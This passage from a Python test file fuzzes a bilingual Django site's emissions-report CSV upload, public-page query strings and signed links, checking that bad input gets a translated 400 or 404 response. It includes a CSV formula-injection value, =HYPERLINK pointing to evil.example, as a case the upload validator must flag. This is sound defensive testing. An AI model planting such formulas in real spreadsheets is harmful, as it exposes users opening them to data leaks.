        "utf-8 with BOM, CRLF": (_file(good.replace("\n", "\r\n"), "utf-8-sig"), [], None),
        "CR only": (_file(good.replace("\n", "\r")), [], None),
        "utf-16": (_file(good, "utf-16"), [], ["UTF-16"]),
        "utf-16 without BOM": (_file(good, "utf-16-le"), [], ["UTF-16"]),
        "invalid utf-8 on line 3": (_file(h + _good(last)) + b"20\xff\xfe19,1,1,,1,1,1,1,,,\n", [], [3]),
        "missing column": (_file(good.replace("scope2,", "", 1)), [], ["scope2"]),
        "extra column": (_file(h.strip() + ",memo\n" + _good(last).strip() + ",x\n"), [], ["memo"]),
        "duplicate column": (_file(h.strip() + ",scope1\n" + _good(last).strip() + ",5\n"), [], ["scope1"]),
        "formula": (_file(h + _good(last, narrative_ja='=HYPERLINK("https://evil.example/")')), [(2, "narrative_ja")],
                    None),
        "huge file": (_file(good) + b"x" * 300_000, [], ["256"]),
        "huge row count": (_file(h + _good(last) * 500), [], ["100"]),
        "negative": (_file(h + _good(last, scope1="-5")), [(2, "scope1")], None),
        "absurd": (_file(h + _good(last, energy_gj="1e400")), [(2, "energy_gj")], None),
        "scope 2 over 10 million": (_file(h + _good(last, scope2="10000000.1")), [(2, "scope2")], None),
        "renewable share over 100": (_file(h + _good(last, renewable_share="100.5")), [(2, "renewable_share")], None),
        "future year": (_file(h + _good(last + 1)), [(2, "fiscal_year")], None),
        "year under review": (_file(h + _good(locked)), [(2, "fiscal_year")], None),
        "the same year twice": (_file(h + _good(last) + _good(last)), [(3, "fiscal_year")], None),
        "a row with a cell too many": (_file(h + _good(last).strip() + ",x\n"), [(2, None)], None),
        "narrative too long": (_file(h + _good(last, narrative_en="a" * 2001)), [(2, "narrative_en")], None),
        "empty file": (b"", [], []),
        "header only": (_file(h), [], []),
        "binary": (_image("PNG"), [], []),
        "NUL": (_file(h + _good(last).replace("1200.5", "12\x000")), [], [2]),
        "quotation mark not closed": (_file(h + _good(last) + '"2020,1,1\n'), [], [3]),
    }


CASE_NAMES = list(_cases(2024, 2023))


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("case", CASE_NAMES)
def test_report_upload_answers_each_named_hostile_file(client, world, report_upload, case, lang):
    """Each hostile file the issue names, in both languages."""
    locked, last = report_upload
    data, defects, fault = _cases(last, locked)[case]
    text = data.decode("cp932" if case == "shift_jis" else "utf-8", "replace")
    rows = {}
    if not defects and fault is None:
        import csv

        rows = {int(r["fiscal_year"]): r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""))}
    upload = ReportFile(data=data, rows=rows, columns=services_upload_columns(), defects=defects, file_fault=fault,
                        cells=[c for line in EOL.split(text) for c in line.split(",")])
    check_report_upload(client, lang, upload, dry_run=False, where=case)


# ---------------------------------------------------------------------------------------------
# Query parameters of the public pages
# ---------------------------------------------------------------------------------------------

REGION_SLUGS = [r.slug for r in REGIONS]
PREFECTURES = [code for code, _ in PREFECTURE_CHOICES if code]
PARAMETERS = {
    "q": ["信州", "tokyo", "とうきょう", "ＴＯＫＹＯ"],
    "region": REGION_SLUGS,
    "prefecture": PREFECTURES[:3] + ["13", "47", "1"],
    "kind": [k for k, _ in Institution.Kind.choices] + ["joint-research", "municipality", "speaker", "members",
                                                        "initiatives", "needs"],
    "category": [c for c, _ in Institution.Category.choices],
    "wg": ["energy", "campus", "general-meeting"],
    "institution": ["alpha", "beta"],
    "year": ["2021", "2022", str(datetime.date.today().year + 1)],
    "format": ["csv", "json", "in_person", "online", "hybrid"],
    "when": ["past", "upcoming"],
    "status": ["open", "published", "in-discussion", "matched", "closed", "all", "declined", "unconfirmed"],
    "page": ["1", "2", "500", "501", "10000"],
}
PAGES = {
    "home": ("/", []),
    "directory": ("/members/", ["q", "region", "prefecture", "kind", "category", "wg", "page", "format"]),
    "institution": ("/members/alpha/", []),
    "groups": ("/working-groups/", []),
    "group": ("/working-groups/energy/", []),
    "initiatives": ("/initiatives/", ["q", "wg", "region", "prefecture", "institution", "year", "page"]),
    "initiative": ("/initiatives/zeb-campus/", []),
    "initiative-feed": ("/initiatives/feed/", ["wg"]),
    "meetings": ("/meetings/", ["wg", "format", "when", "page"]),
    "meeting": ("/meetings/{meeting}/", []),
    "meeting-ical": ("/meetings/{meeting}/ical/", []),
    "meetings-feed": ("/meetings/ical/", ["wg"]),
    "apply": ("/members/apply/", []),
    "partners": ("/partners/", ["q", "kind", "region", "prefecture", "page", "format"]),
    "needs": ("/needs/", ["q", "wg", "region", "prefecture", "kind", "status", "year", "page", "format"]),
    "needs-feed": ("/needs/feed/", []),
    "need-form": ("/needs/new/", []),
    "expertise": ("/expertise/", ["q", "wg", "region", "prefecture", "institution", "year", "page", "format"]),
    "search": ("/search/", ["q", "kind", "page"]),
}
BAD_REQUEST = {"ja": "不正なリクエスト", "en": "Bad request"}
NOT_FOUND = {"ja": "ページが見つかりません", "en": "Page not found"}


@st.composite
def query_strings(draw, known):
    """A query string: the page's own parameters (and the other lists') with their values or
    arbitrary text, repeated, unknown names, and now and then bytes that are not UTF-8."""
    pairs = []
    for name in known:  # each of the page's own parameters, or not
        if draw(st.booleans()):
            value = draw(values(PARAMETERS[name]))
            pairs += [(name, v) for v in (value if isinstance(value, list) else [value]) if v is not None]
    others = st.one_of(st.sampled_from(sorted(PARAMETERS)), st.text(CHARACTERS, min_size=1, max_size=12),
                       st.sampled_from(NASTY[:20]))
    for _ in range(draw(st.integers(0, 2))):
        pairs.append((draw(others), draw(st.one_of(texts(), st.sampled_from(NUMBERS)))))
    pairs = draw(st.permutations(pairs))
    query = urllib.parse.urlencode(pairs)
    if draw(st.integers(0, 9)) == 0:
        raw = draw(st.binary(min_size=1, max_size=20))
        name = draw(st.sampled_from(known or ["q"]))
        query += ("&" if query else "") + name + "=" + urllib.parse.quote_from_bytes(raw)
    return query


LISTS = [name for name, (_, known) in PAGES.items() if known]


@pytest.fixture
def public_page(request, world, client, settings):
    """The page, its parameters, and a visitor's and a member's browser."""
    from django.test import Client

    settings.PAGE_CACHE_SECONDS = 60  # the visitors' page cache takes part (it keys on the query)
    Meeting.objects.filter(pk=world.meeting.pk).update(visibility=Meeting.Visibility.PUBLIC)
    member = Client()
    member.force_login(world.member)
    path, known = PAGES[request.param]
    return request.param, path.format(meeting=world.meeting.pk), known, {False: client, True: member}


@pytest.mark.parametrize("public_page", LISTS, indirect=True)
@settings(FUZZ, max_examples=QUERY_EXAMPLES)
@given(data=st.data())
def test_list_answers_any_query_without_error(public_page, data):
    """The lists and feeds, with their filters, pages and formats (and parameters they do not know)."""
    check_query(public_page, data)


@pytest.mark.parametrize("public_page", [name for name in PAGES if name not in LISTS], indirect=True)
@settings(FUZZ, max_examples=PAGE_EXAMPLES)
@given(data=st.data())
def test_page_answers_any_query_without_error(public_page, data):
    """The other public pages take no parameter: any query string is ignored."""
    check_query(public_page, data)


def check_query(public_page, data):
    """200, 400 (the translated 400 page) or 404 (the translated 404 page), for a visitor or a member."""
    name, path, known, clients = public_page
    lang = data.draw(st.sampled_from(LANGS), label="lang")
    signed_in = data.draw(st.booleans(), label="signed in")
    query = data.draw(query_strings(known), label="query")
    response = clients[signed_in].get(f"/{lang}{path}", QUERY_STRING=query)
    if response.streaming:  # the directory's CSV: rows are written while it is sent
        b"".join(response.streaming_content)
    assert response.status_code in (200, 400, 404), f"{name}?{query}: {response.status_code}"
    if response.status_code == 400 and response["Content-Type"].startswith("text/html"):
        assert BAD_REQUEST[lang] in response.content.decode(), f"{name}?{query}: the 400 page is not translated"
    elif response.status_code == 400:
        # an export (?format=csv|json) answers a bad filter with its error as text: in the asked language,
        # so the same request in the other language reads differently
        other = clients[signed_in].get(f"/{'en' if lang == 'ja' else 'ja'}{path}", QUERY_STRING=query)
        assert other.status_code == 400 and other.content != response.content, \
            f"{name}?{query}: the export's 400 is not translated"
    if response.status_code == 404 and response["Content-Type"].startswith("text/html"):
        assert NOT_FOUND[lang] in response.content.decode(), f"{name}?{query}: the 404 page is not translated"
    if response.status_code == 200 and response["Content-Type"].startswith("text/html"):
        assert f'<html lang="{lang}">' in response.content.decode()


# ---------------------------------------------------------------------------------------------
# Addresses with a token or an id of their own
# ---------------------------------------------------------------------------------------------

# Each address with a part of its own: its URL name, and whether a part names something that exists
# (a valid signed token, an existing id or slug). A part that names nothing has one known answer
# (NAMES_NOTHING), read or posted: the signed links answer the translated "this link does not work"
# page (400), the others 404 (405 for a post to a page that only reads); either way nothing
# changes. (A part can also make another pattern's address, /meetings/ical/ or /initiatives/new/:
# then only "no 5xx, and a refusal changes nothing".)
PATHS = {
    "/members/apply/edit/{}/": ("members:apply-edit", lambda part: _returned_application(part) is not None),
    "/account/notifications/unsubscribe/{}/": ("notifications:unsubscribe",
                                               lambda part: read_unsubscribe_token(part) is not None),
    "/meetings/ical/{}/": ("meetings:personal-feed", lambda part: CalendarFeed.objects.filter(token=part).exists()),
    "/meetings/{}/": ("meetings:meeting-detail", lambda part: _pk_exists(Meeting, part)),
    "/meetings/{}/ical/": ("meetings:meeting-ical", lambda part: _pk_exists(Meeting, part)),
    "/members/{}/": ("members:institution-detail", lambda part: Institution.objects.filter(slug=part).exists()),
    "/working-groups/{}/": ("working_groups:group-detail",
                            lambda part: WorkingGroup.objects.filter(slug=part).exists()),
    "/initiatives/{}/": ("working_groups:initiative-detail",
                         lambda part: Initiative.objects.filter(slug=part).exists()),
}
NAMES_NOTHING = {  # URL name: {method: status}
    "members:apply-edit": {"get": 400, "post": 400},
    "notifications:unsubscribe": {"get": 400, "post": 400},
    "meetings:personal-feed": {"get": 404, "post": 404},
    "meetings:meeting-detail": {"get": 404, "post": 404},
    "meetings:meeting-ical": {"get": 404, "post": 404},
    "members:institution-detail": {"get": 404, "post": 405},  # read-only views: the method is checked first
    "working_groups:group-detail": {"get": 404, "post": 405},
    "working_groups:initiative-detail": {"get": 404, "post": 404},
}
LINK_INVALID = {"ja": "このリンクは使えません", "en": "This link does not work"}  # the signed links' 400


def _pk_exists(model, part) -> bool:
    return part.isascii() and part.isdigit() and int(part) < 2**63 and model.objects.filter(pk=int(part)).exists()


def _returned_application(part):
    application = read_application_token(part)
    return application if application and application.status == MembershipApplication.Status.RETURNED else None


def _resolved_name(path) -> str | None:
    try:
        return url_name(urllib.parse.unquote(path))
    except Resolver404:
        return None


@settings(FUZZ, max_examples=QUERY_EXAMPLES)
@given(data=st.data())
def test_address_with_any_token_or_id_answers_without_error(client, world, data):
    """The signed links (a returned application, unsubscribing, a personal calendar) and the pages of
    one object, with any token, id or slug: read or posted, never a 5xx, and a refusal changes
    nothing. A part that names nothing gets its one known answer (NAMES_NOTHING), in the page's
    language, and changes nothing even when the answer is not an error."""
    rows = world.rows
    lang = data.draw(st.sampled_from(LANGS), label="lang")
    template = data.draw(st.sampled_from(sorted(PATHS)), label="path")
    part = data.draw(st.one_of(texts(), st.sampled_from(NUMBERS)), label="part")
    path = f"/{lang}" + template.format(urllib.parse.quote(part, safe=""))
    name, names_something = PATHS[template]
    resolved = _resolved_name(path)
    # (a NUL byte is refused before any view: PostgreSQL cannot even compare it)
    known = resolved == name and "\x00" not in part and not names_something(part)
    for method in ("get", "post"):
        with transaction.atomic():
            response = getattr(client, method)(path)
            status = response.status_code
            assert status in (200, 302, 400, 404, 405), f"{method} {path}: {status}"
            if resolved is None:  # the part made an address nothing answers (or one that cannot be read)
                assert status in (400, 404), f"{method} {path}: {status}"
            if known:
                assert status == NAMES_NOTHING[name][method], f"{method} {path} ({name}, names nothing): {status}"
                if status == 400:
                    assert LINK_INVALID[lang] in response.content.decode(), f"{method} {path}: not translated"
                elif status == 404 and response["Content-Type"].startswith("text/html"):
                    assert NOT_FOUND[lang] in response.content.decode(), f"{method} {path}: not translated"
            if status != 200 or known:
                assert snapshot() == rows
            transaction.set_rollback(True)
